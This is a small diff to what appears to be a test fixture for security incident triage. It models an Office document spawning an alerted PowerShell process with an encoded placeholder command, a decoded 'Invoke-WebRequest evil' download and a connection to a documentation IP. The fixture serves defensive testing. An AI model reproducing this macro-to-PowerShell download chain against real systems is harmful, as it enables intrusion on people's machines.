@@ -74,7 +74,7 @@ def office_attack() -> Rows:
         IncidentId="7",
         Story="Confirmed by telemetry: it ran.\nOn 2026-11-24 (UTC):\n"
         "11:56:00 powershell.exe started (the alert's process): powershell.exe -enc AAAA\n"
-        "11:56:03 powershell.exe connected to 203.0.113.10:80",
+        "11:56:03 powershell.exe connected to 203.0.113.10 port 80",
         ProcessTree=tree(
             process("winword.exe", 40),
             process("powershell.exe", 50, parent="p40", alert=True, decoded="Invoke-WebRequest evil"),
